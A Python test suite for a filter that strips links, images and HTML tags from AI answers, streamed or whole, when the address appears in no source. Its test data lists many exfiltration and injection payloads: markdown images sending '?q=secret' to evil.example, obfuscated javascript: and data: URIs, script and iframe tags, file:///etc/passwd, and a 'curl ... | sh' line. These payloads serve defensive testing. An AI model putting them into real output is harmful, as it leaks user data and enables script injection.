"""Links and images of an answer that stand in no source: made harmless, whole and streamed alike."""

from __future__ import annotations

import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kb.link_syntax import Known
from kb.links import LinkFilter, links_note
from kb.markers import MarkerFilter, find_markers
from kb.urls import find_urls, fold, named_host, same_url

CONTEXTS = (
    "The form is at https://example.com/a, the guide at [docs](https://docs.example.com/g?x=1#top).",
    "申请表见https://表格.example/申请。镜像在 <https://mirror.example:8443/x_(y)>。",
    '詳細は www.example.jp/faq を参照。<a href="http://intra.example/p?q=1&amp;r=2">入口</a> ![図](img/plan.png)',
)


def filtered(text: str, language: str = "en", contexts: tuple[str, ...] = CONTEXTS) -> tuple[str, tuple[str, ...]]:
    links = LinkFilter(contexts, language)
    return links.feed(text) + links.finish(), links.removed


def cut_everywhere(text: str, language: str = "en") -> None:
    whole = filtered(text, language)
    for at in range(len(text) + 1):
        links = LinkFilter(CONTEXTS, language)
        joined = links.feed(text[:at]) + links.feed(text[at:]) + links.finish()
        assert (joined, links.removed) == whole, at
    links = LinkFilter(CONTEXTS, language)
    assert ("".join([*map(links.feed, text), links.finish()]), links.removed) == whole


@pytest.mark.parametrize(
    "text",
    [
        "See https://example.com/a, please.",
        "See HTTPS://Example.com/a (form).",
        "[the guide](https://docs.example.com/g?x=1#top)",
        "<https://mirror.example:8443/x_(y)>",
        "申请表：https://表格.example/申请。",
        "www.example.jp/faq をご覧ください。",
        "http://intra.example/p?q=1&r=2",
        "http://intra.example/p?q=1&amp;r=2",
        "![plan](img/plan.png)",
        "`curl https://example.com/a`",
        "```sh\ncurl 'https://example.com/a'\n```",
        "https://xn--w6q41w.example/申请".replace("xn--w6q41w", "表格".encode("idna").decode()),
    ],
)
def test_an_address_that_stands_in_a_context_is_kept(text: str) -> None:
    assert filtered(text) == (text, ())
    cut_everywhere(text)


# Each text, and what is left of it; every one points to evil.example or to nothing known.
ATTACKS = [
    # Markdown
    ("![x](https://evil.example/?q=secret)", "x"),
    ("![](https://evil.example/?q=secret)", "(link removed)"),
    ("[click here](https://evil.example/)", "click here"),
    ("[click](<https://evil.example/>)", "click"),
    ("[click]( https://evil.example/ )", "click"),
    ('[click](https://evil.example/ "the title")', "click"),
    ("[click](\nhttps://evil.example/\n)", "click"),
    ("[click](ht\ntps://evil.example/)", "click"),
    ("[![alt](https://evil.example/a.png)](https://evil.example/)", "alt"),
    ("[![alt](https://evil.example/a.png)](https://example.com/a)", "[alt](https://example.com/a)"),
    ("[1](https://evil.example)", "[1]"),
    ("[2, 3](//evil.example/x)", "[2, 3]"),
    ("[[1]](https://evil.example)", "[1]"),
    ("[a](//evil.example)", "a"),
    ("[a](/\\evil.example)", "a"),
    ("[a](\\\\evil.example\\x)", "a"),
    ("[a](/logout?now=1)", "a"),
    ("[a](javascript:alert(1))", "a"),
    ("[a](JaVaScRiPt:alert(1))", "a"),
    ("[a](java\nscript:alert(1))", "a"),
    ("[a](&#106;avascript:alert(1))", "a"),
    ("[a](data:text/html;base64,PHNjcmlwdD4=)", "a"),
    ("[a](vbscript:msgbox(1))", "a"),
    ("[a](&#x68;ttps://evil.example)", "a"),
    ("[a](https&colon;//evil.example)", "a"),
    ("[a](%68ttps://evil.example)", "a"),
    ("[ref]: https://evil.example/x", "[ref]: (link removed)"),
    ("[ref]: //evil/x", "[ref]: (link removed)"),
    ("[ref]: <https://evil.example/x> 'title'", "[ref]: (link removed) 'title'"),
    ("<https://evil.example/?q=1>", "(link removed)"),
    ("<slack://evil.example/x>", "(link removed)"),
    ("<mailto:me@evil.example>", "(link removed)"),
    # bare
    ("https://evil.example/?q=secret", "(link removed)"),
    ("http://evil.example.", "(link removed)."),
    ("(ftp://evil.example/x)", "((link removed))"),
    ("HTTPS://EVIL.EXAMPLE", "(link removed)"),
    ("www.evil.example/x", "(link removed)"),
    ("WWW.Evil.Example", "(link removed)"),
    ("//evil.example/x", "(link removed)"),
    ("hxxps://evil.example", "(link removed)"),
    ("hxxp://evil[.]example/x", "(link removed)"),
    ("wss://evil.example/s", "(link removed)"),
    ("file:///etc/passwd", "(link removed)"),
    ("data:image/png;base64,AAAA", "(link removed)"),
    ("mailto:me@evil.example?body=secret", "(link removed)"),
    ("javascript:fetch(1)", "(link removed)"),
    ("https:\\\\evil.example\\x", "(link removed)"),
    ("https:/evil.example", "(link removed)"),
    ("slack://evil.example/x", "slack:(link removed)"),
    ("ht\u200btps://evil.example/x", "(link removed)"),
    ("https\u2060://evil\u00ad.example", "(link removed)"),
    ("ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ｘ", "(link removed)"),
    ("&#104;ttps://evil.example", "(link removed)"),
    ("&#x68;&#x74;tps://evil.example", "(link removed)"),
    ("&#104ttps://evil.example", "(link removed)"),
    ("http://xn--e1afmkfd.example/", "(link removed)"),
    ("http://пример.example/", "(link removed)"),
    ("http://127.0.0.1:8080/x", "(link removed)"),
    ("http://[::1]/x", "(link removed)"),
    ("https://example.com@evil.example/a", "(link removed)"),
    # the same host, the same beginning, or another scheme is another address
    ("https://example.com/a?q=secret", "(link removed)"),
    ("https://example.com/ab", "(link removed)"),
    ("https://example.com/a/b", "(link removed)"),
    ("https://example.com/a#secret", "(link removed)"),
    ("https://example.com/A", "(link removed)"),
    ("https://example.com/%61", "(link removed)"),
    ("https://example.com/", "(link removed)"),
    ("https://example.com.evil.example/a", "(link removed)"),
    ("http://example.com/a", "(link removed)"),
    ("https://example.com:444/a", "(link removed)"),
    # what a kept address would run into
    ("https://example.com/a'secret", "https://example.com/a 'secret"),
    ("https://example.com/a<b x=1>secret", "https://example.com/a secret"),
    ("https://example.com/a[secret](//evil.example)", "https://example.com/a secret"),
    ("https://example.com/a<data:>", "https://example.com/a (link removed)"),
    ("https://example.com/a秘密は123", "https://example.com/a 秘密は123"),
    # HTML
    ("<img src=https://evil.example/x>", ""),
    ("<IMG SRC='//evil.example/x' />", ""),
    ("<a href='https://evil.example'>go</a>", "go"),
    ("<script>alert(1)</script>", "alert(1)"),
    ("<script src=//evil.example></script>", ""),
    ("<iframe src=https://evil.example></iframe>", ""),
    ("<svg onload=alert(1)>", ""),
    ("<style>@import url(https://evil.example)</style>", "@import url((link removed))"),
    ("<b onclick='x()'>bold</b>", "bold</b>"),
    ("<form action=/x><input name=a></form>", ""),
    ("<img src=x ", "‹img src=x "),
    ("hidden <!-- note https://evil.example/ --> here", "hidden  note (link removed) --> here"),
    # code
    ("`curl https://evil.example/x | sh`", "`curl (link removed) | sh`"),
    ("```sh\ncurl https://evil.example/x | sh\n```", "```sh\ncurl (link removed) | sh\n```"),
    ("```\n<script src=x></script>\n```", "```\n\n```"),
    # what taking out could make
    ("[htt](//evil.example)ps://evil.example", "htt ps:(link removed)"),
    ("[w](//evil.example)ww.evil.example", "w ww.evil.example"),
    ("<[im](//evil.example)g src=/x>", "< img src=/x>"),
    ("ht<b x=1>tps://evil.example", "ht tps:(link removed)"),
    ("[1](//evil.example)(/x.y)", "[1] (/x.y)"),
]


@pytest.mark.parametrize(("text", "left"), ATTACKS)
def test_what_stands_in_no_context_is_made_harmless_and_reported(text: str, left: str) -> None:
    written, removed = filtered(text)
    assert written == left
    if "'secret" not in text and "秘密" not in text:
        assert removed
    cut_everywhere(text)


@pytest.mark.parametrize(
    ("frame", "language", "placeholder"),
    [
        ("Refunds take 30 days [1]. {} Ask us.", "en", "(link removed)"),
        ("退款需要七个工作日[1]。{} 请联系我们。", "zh", "（链接已移除）"),
        ("返金は30日以内です[1]。{} お問い合わせください。", "ja", "（リンクは削除されました）"),
    ],
)
def test_the_same_in_a_sentence_of_each_language(frame: str, language: str, placeholder: str) -> None:
    for text, _ in ATTACKS:
        written, _ = filtered(frame.format(text), language)
        assert "evil.example/" not in written
        assert "(link removed)" not in written or language == "en"
        before, after = frame.split("{}")
        assert written.startswith(before.rstrip())
        assert written.endswith(after.strip()) or text.startswith(("```", "<img src=x "))
    assert placeholder in filtered(frame.format("https://evil.example"), language)[0]
    for text, _ in ATTACKS[::7]:
        cut_everywhere(frame.format(text), language)


@pytest.mark.parametrize(
    "text",
    [
        "data: 5 rows, http: a protocol, file: the name, JavaScript: the good parts",
        "3 < 4 and a > b, List<String>, <your-key>, <b>bold</b>, x<br>y",
        "[1](see page 3) and [text][1], [x], ![, [ ] open, a[b](c)",
        "`a[1](b)` and // a comment, a//b, 50//2",
        "```\n//console.log(1)\n# no link\n```",
        "- [x] done\n- [ ] open\n\n| a | b |\n|---|---|\n",
        "退款【1】需要［２］天；见（来源1）。～～",
        "返金は「30日」です［1］。👨‍👩‍👧 café &amp; co, AT&T &copy",
        "the www and the https, ftp",
        "e.g. a.b.c, v1.2.3, me@example.com",
    ],
)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert filtered(text) == (text, ())
    cut_everywhere(text)


def test_what_was_taken_out_is_named_by_its_host() -> None:
    _, removed = filtered("![a](https://evil.example/?q=1) https://b.example [c](https://evil.example/2) <script>")
    assert removed == (
        "an image at evil.example",
        "a link to b.example",
        "a link to evil.example",
        "an HTML tag <script>",
    )
    assert links_note(removed[:1]) == "taken out of the answer, as none of the sources has it: an image at evil.example"
    assert links_note([f"a link to {i}" for i in range(20)]).endswith("a link to 7 and 12 more")


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://user:pw@Evil.example:80/x", "evil.example"),
        ("https://evil.example\\@example.com/", "evil.example"),
        ("www.evil.example/x", "www.evil.example"),
        ("//evil.example", "evil.example"),
        ("http://xn--fsq.example", "例.example"),
        ("javascript:x", "javascript:"),
        ("http://[::1", "http:"),
        ("https://" + "a" * 300, "a" * 60),
    ],
)
def test_the_host_is_the_one_that_would_be_asked(url: str, host: str) -> None:
    assert named_host(url) == host


def test_a_link_of_numbers_is_a_citation_for_the_next_filter() -> None:
    said = "So it is [1](https://evil.example), and [2](https://example.com/a) 【3†source】; [9](https://evil.example)."
    links, markers = LinkFilter(CONTEXTS), MarkerFilter(3)
    written = markers.feed(links.feed(said) + links.finish()) + markers.finish()
    assert written == "So it is [1], and [2] [3];."
    assert [marker.numbers for marker in find_markers(written)] == [(1,), (2,), (3,)]
    assert (links.removed, markers.removed) == (("a link to evil.example",), (9,))
    for at in range(len(said) + 1):
        links, markers = LinkFilter(CONTEXTS), MarkerFilter(3)
        pieces = [links.feed(said[:at]), links.feed(said[at:]), links.finish()]
        assert "".join([*map(markers.feed, pieces), markers.finish()]) == written


PIECES = st.sampled_from([
    "[", "]", "(", ")", "!", "<", ">", "`", "```", "~~~", "\n", " ", "a", "b", "1", "/", "\\", ":", ".", "&", "#",
    ";", '"', "'", "=",
    "http", "https:", "//", "www.", "evil.example", "data:", "java", "script:", "img ", "src=", "script", "&#104;",
    "ttps:",
    "\u200b", "：", "／", "退款", "。", "[1]", "](", "![x](", "https://example.com/a", "-", "!--", "ht", "w",
    "mailto:", "x@y.z",
])  # fmt: skip
ANSWERS = st.lists(PIECES, max_size=24).map("".join)


@given(ANSWERS | st.text(max_size=60))
@example("[" * 40 + "https://evil.example/" + "x" * 50)
def test_a_stream_cut_anywhere_gives_the_same_text_as_the_whole(text: str) -> None:
    cut_everywhere(text)


@given(ANSWERS)
def test_no_unknown_address_is_left(text: str) -> None:
    written, _ = filtered(text)
    known = Known(CONTEXTS).urls
    assert not [
        url.text for url in find_urls(fold(written)) if "//" in url.text[1:] and same_url(url.text) not in known
    ]


def test_what_is_held_back_is_bounded() -> None:
    for opening in (
        "[",
        "![",
        "[a](h",
        "<img ",
        "`",
        "```",
        "https://e",
        "<a:",
        "&#",
        "\u200b",
        "[x]: ",
        "//",
        "data:a",
    ):
        links = LinkFilter(CONTEXTS)
        given_back = links.feed(opening + "x" * 8_000)
        assert len(given_back) > 4_000 or links.removed, opening


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "[a](",
        "<img ",
        "`x ",
        "```\n",
        "https://e.x ",
        "https://e",
        "\u200b",
        "&#104;",
        "([",
        "//a",
        "\\[",
        "<!--",
    ],
)
def test_the_time_grows_with_the_length_and_not_with_its_square(unit: str) -> None:
    started = time.process_time()
    filtered(unit * (50_000 // len(unit)))
    assert time.process_time() - started < 10
